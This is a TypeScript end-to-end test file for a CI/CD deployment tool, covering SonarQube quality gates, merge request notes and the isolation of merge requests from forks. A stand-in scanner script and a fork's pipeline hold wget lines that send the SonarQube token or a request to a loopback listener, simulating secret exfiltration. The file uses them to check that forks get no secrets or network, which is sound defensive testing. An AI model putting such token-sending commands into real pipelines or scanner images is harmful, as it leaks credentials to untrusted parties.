import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pack } from 'tar-stream';
import type { RunRecord } from '../../src/runs/types.js';
import { commitFiles } from '../../src/standins/gitlab/git-repo.js';
import type { FakeProject } from '../../src/standins/gitlab/gitlab-server.js';
import { startFakeSonar, type FakeSonar } from '../../src/standins/sonar/sonar-server.js';
import { eventually } from '../helpers/eventually.js';
import { git } from '../helpers/git-cli.js';
import { deliver, mergeEvent, openMergeRequestEvent } from '../helpers/gitlab-delivery.js';
import { dockerFromEnv, slotPortBase } from '../helpers/services.js';
import { startHarness, WEBHOOK_SECRET, type Harness } from '../helpers/slipway-harness.js';

// A stand-in for sonar-scanner: writes the report-task.txt the real scanner leaves behind, with the
// project key as the background task id, so each case picks its task on the fake SonarQube. When
// the repository names a port in leak-port, it first sends its token there, as a hostile scanner
// image chosen by a fork's pipeline file would.
const SCANNER = `#!/bin/sh
set -e
if [ -f leak-port ]; then wget -q -O /dev/null "http://127.0.0.1:$(cat leak-port)/from-sonar?token=$SONAR_TOKEN" || true; fi
key=""
for a in "$@"; do case "$a" in -Dsonar.projectKey=*) key="\${a#-Dsonar.projectKey=}";; esac; done
mkdir -p .scannerwork
printf 'projectKey=%s\\nserverUrl=%s\\ndashboardUrl=%s/dashboard?id=%s\\nceTaskId=%s\\n' "$key" "$SONAR_HOST_URL" "$SONAR_HOST_URL" "$key" "$key" > .scannerwork/report-task.txt
echo "INFO: ANALYSIS SUCCESSFUL, you can find the results at: $SONAR_HOST_URL/dashboard?id=$key"
`;

const JUNIT = `<?xml version="1.0"?>
<testsuites><testsuite name="cart" tests="2">
  <testcase classname="cart" name="adds items"/>
  <testcase classname="cart" name="totals"><failure message="expected 3 got 4">trace</failure></testcase>
</testsuite></testsuites>`;

describe('sonar quality gate end to end', () => {
  const suffix = randomBytes(3).toString('hex');
  const service = `gate-${suffix}`;
  const scanner = `slipway-test/sonar-scanner-${suffix}:1`;
  const projectId = 17000 + Math.floor(Math.random() * 1000);
  const port = slotPortBase(1);
  const docker = dockerFromEnv();
  let sonar: FakeSonar;
  let h: Harness;
  let project: FakeProject;
  let iid = 0;
  // A listener on the host's loopback: what reaches it, a fork's code could reach.
  let listener: Server;
  const leaks: string[] = [];

  const merge = async (key: string, gate: 'required' | 'advisory') => {
    iid += 1;
    const pipeline = [
      'unit:',
      '  image: slipway/busybox:1',
      "  coverage: '/Total coverage: \\d+\\.\\d+%/'",
      '  script:',
      `    - 'echo "Total coverage: 87.5%"'`,
      '    - mkdir -p reports && cp junit.xml reports/junit.xml',
      '  artifacts: { reports: { junit: reports/junit.xml } }',
      `sonar: { project_key: ${key}, gate: ${gate} }`,
      `build: { image: demo/${service} }`,
      'deploy:',
      `  service: ${service}`,
      `  environments: { pre: { port: ${port}, health: /healthz, timeout: 30s } }`,
      '',
    ].join('\n');
    const sha = await commitFiles(
      project.bareDir,
      'main',
      {
        '.slipway.yml': pipeline,
        'junit.xml': JUNIT,
        Dockerfile: 'FROM slipway/busybox:1\nCOPY www /www\nCMD ["/bin/sh", "-c", "exec httpd -f -p 127.0.0.1:${PORT} -h /www"]\n',
        'www/healthz': 'ok\n',
        'www/index.html': `<h1>${service} ${iid}</h1>\n`,
      },
      `Merge ${iid}`,
    );
    const res = await deliver(h.url, 'Merge Request Hook', mergeEvent({ projectId, path: project.pathWithNamespace, sha, iid }), WEBHOOK_SECRET);
    expect(res.status).toBe(202);
    return { iid, run: await h.waitForRun(String(res.json['runId']), ['succeeded', 'failed', 'canceled'], 150_000) };
  };
  const phases = (run: RunRecord) => (run.jobs.length === 0 ? { run: run.status.reason } : Object.fromEntries(run.jobs.map((j) => [j.name, j.status.phase])));
  const failingGate = {
    status: 'ERROR' as const,
    conditions: [{ status: 'ERROR', metricKey: 'new_coverage', comparator: 'LT', errorThreshold: '80', actualValue: '61.5' }],
  };

  beforeAll(async () => {
    const context = pack();
    context.entry({ name: 'Dockerfile' }, 'FROM slipway/busybox:1\nCOPY sonar-scanner /bin/sonar-scanner\n');
    context.entry({ name: 'sonar-scanner', mode: 0o755 }, SCANNER);
    context.finalize();
    const stream = await docker.buildImage(context as unknown as NodeJS.ReadableStream, { t: scanner, rm: true, forcerm: true });
    await new Promise((resolve, reject) => docker.modem.followProgress(stream, (err: Error | null) => (err ? reject(err) : resolve(undefined))));
    listener = createServer((req, res) => {
      leaks.push(req.url ?? '');
      res.end('ok');
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    sonar = await startFakeSonar();
    h = await startHarness({ env: { SONAR_HOST_URL: sonar.url, SONAR_TOKEN: sonar.token, SLIPWAY_SONAR_SCANNER_IMAGE: scanner } });
    project = await h.gitlab.addProject({ id: projectId, pathWithNamespace: `team/${service}`, defaultBranch: 'main' });
  });
  afterAll(async () => {
    const mine = await docker.listContainers({ all: true, filters: { label: [`io.slipway.service=${service}`] } });
    await Promise.all(mine.map((c) => docker.getContainer(c.Id).remove({ force: true })));
    await h.stop();
    await sonar.close();
    await new Promise((resolve) => listener.close(resolve));
    await docker
      .getImage(scanner)
      .remove({ force: true })
      .catch(() => undefined);
  });

  it('gate OK: deploy proceeds; the MR note shows tests, coverage and the gate; coverage goes with the commit status', async () => {
    const key = `ok-${suffix}`;
    sonar.addTask(key, { statuses: ['IN_PROGRESS', 'SUCCESS'], analysisId: `a-${key}`, gate: { status: 'OK' } });
    const { iid: mr, run } = await merge(key, 'required');
    expect(phases(run)).toEqual({ unit: 'success', sonar: 'success', image: 'success', 'deploy:pre': 'success' });
    expect(run.status.phase).toBe('succeeded');
    expect(run.sonar).toEqual({ status: 'OK', outcome: 'pass', dashboardUrl: `${sonar.url}/dashboard?id=${key}` });
    expect(run.jobs.find((j) => j.name === 'unit')?.coverage).toBe(87.5);
    // The token never reached a log line.
    const log = (await h.api<{ lines: Array<{ line: string }> }>(`/api/runs/${run.id}/log`)).body.lines.map((l) => l.line).join('\n');
    expect(log).not.toContain(sonar.token);
    expect(sonar.unexpectedCalls()).toEqual([]);
    await eventually(() => {
      const unit = h.gitlab
        .statuses(projectId, run.request.sha)
        .filter((s) => s.name === 'slipway/unit')
        .at(-1);
      expect(unit).toMatchObject({ status: 'success', coverage: 87.5 });
      const body = h.gitlab.notes(projectId, mr)[0]?.body ?? '';
      expect(body).toContain('succeeded');
      expect(body).toContain('| unit | ✅ success | 1 passed, **1 failed**, 0 skipped | 87.5% |');
      expect(body).toContain('- cart › totals (unit): expected 3 got 4');
      expect(body).toContain(`Quality gate: ✅ OK — [SonarQube dashboard](${sonar.url}/dashboard?id=${key})`);
    });
  });

  it('gate ERROR with gate: required fails the sonar job and the run, and skips the deploys', async () => {
    const key = `err-${suffix}`;
    sonar.addTask(key, { statuses: ['SUCCESS'], analysisId: `a-${key}`, gate: failingGate });
    const { run } = await merge(key, 'required');
    expect(phases(run)).toMatchObject({ unit: 'success', sonar: 'failed', 'deploy:pre': 'skipped' });
    expect(run.jobs.find((j) => j.name === 'sonar')?.status.reason).toBe(`quality gate ERROR: new_coverage 61.5 (LT 80) — ${sonar.url}/dashboard?id=${key}`);
    expect(run.status.phase).toBe('failed');
    expect(run.deployments).toEqual([]);
    expect(run.sonar).toMatchObject({ status: 'ERROR', outcome: 'fail' });
  });

  it('gate ERROR with gate: advisory warns, deploys, and the run succeeds', async () => {
    const key = `adv-${suffix}`;
    sonar.addTask(key, { statuses: ['SUCCESS'], analysisId: `a-${key}`, gate: failingGate });
    const { iid: mr, run } = await merge(key, 'advisory');
    expect(phases(run)).toEqual({ unit: 'success', sonar: 'success', image: 'success', 'deploy:pre': 'success' });
    expect(run.status.phase).toBe('succeeded');
    expect(run.sonar).toMatchObject({ status: 'ERROR', outcome: 'warn' });
    await eventually(() => expect(h.gitlab.notes(projectId, mr)[0]?.body).toContain('Quality gate: ⚠️ ERROR (advisory: not blocking)'));
  });

  it('a fork merge request gets no SonarQube token, no host network, no registry push and no deploy, whatever its rules say', async () => {
    const key = `fork-${suffix}`;
    sonar.addTask(key, { statuses: ['SUCCESS'], analysisId: `a-${key}`, gate: { status: 'OK' } });
    const forkIid = 900;
    const branch = `fork-${suffix}`;
    const pipeline = [
      'unit:',
      '  image: slipway/busybox:1',
      '  script:',
      `    - 'wget -q -O /dev/null "http://127.0.0.1:$(cat leak-port)/from-script" || echo "no network here"'`,
      // The fork chooses the scanner image, and asks for its image and deploy on merge request events.
      `sonar: { project_key: ${key}, gate: required, image: ${scanner} }`,
      `build: { image: demo/${service}, rules: [{ if: '$SLIPWAY_EVENT == "mr"' }] }`,
      'deploy:',
      `  service: ${service}`,
      `  environments: { pre: { port: ${port + 1}, health: /healthz, timeout: 30s, rules: [{ if: '$SLIPWAY_EVENT == "mr"' }] } }`,
      '',
    ].join('\n');
    const sha = await commitFiles(
      project.bareDir,
      branch,
      {
        '.slipway.yml': pipeline,
        'leak-port': String((listener.address() as AddressInfo).port),
        Dockerfile: 'FROM slipway/busybox:1\nCOPY www /www\nCMD ["/bin/sh", "-c", "exec httpd -f -p 127.0.0.1:${PORT} -h /www"]\n',
        'www/healthz': 'ok\n',
      },
      'From a fork',
    );
    // GitLab keeps a fork's merge request commits in the target project under
    // refs/merge-requests/<iid>/head; the fork's branch itself is not there.
    git(project.bareDir, 'update-ref', `refs/merge-requests/${forkIid}/head`, sha);
    git(project.bareDir, 'update-ref', '-d', `refs/heads/${branch}`);
    const event = openMergeRequestEvent({
      projectId,
      path: project.pathWithNamespace,
      sha,
      iid: forkIid,
      // A fork's branch may well be called main: it is still the fork's.
      sourceBranch: 'main',
      fromFork: { id: projectId + 1, path: `mallory/${service}` },
    });
    const releases = async () => (await docker.listContainers({ all: true, filters: { label: [`io.slipway.service=${service}`] } })).map((c) => c.Id).sort();
    const before = await releases();
    const res = await deliver(h.url, 'Merge Request Hook', event, WEBHOOK_SECRET);
    expect(res.status).toBe(202);
    const run = await h.waitForRun(String(res.json['runId']), ['succeeded', 'failed', 'canceled'], 150_000);

    expect(phases(run)).toEqual({ unit: 'success' });
    expect(run.status.phase).toBe('succeeded');
    const skipped = run.plan?.skipped;
    expect(skipped).toEqual(
      expect.arrayContaining([
        { name: 'sonar', reason: 'merge requests from forks get no secrets: the sonar job needs SONAR_TOKEN and the host network' },
        { name: 'image', reason: 'merge requests from forks get no registry credentials: no image is built or pushed' },
        { name: 'deploy:pre', reason: 'merge requests from forks never deploy' },
      ]),
    );
    // Nothing from the fork reached the host's loopback or SonarQube, and no release was started.
    expect(leaks).toEqual([]);
    expect(sonar.calls.filter((c) => c.query.includes(key) || c.path.includes(key))).toEqual([]);
    const log = (await h.api<{ lines: Array<{ line: string }> }>(`/api/runs/${run.id}/log`)).body.lines.map((l) => l.line).join('\n');
    expect(log).toContain('skipped sonar: merge requests from forks get no secrets');
    expect(log).toContain('no network here');
    expect(run.deployments).toEqual([]);
    expect(await releases()).toEqual(before);
  });
});
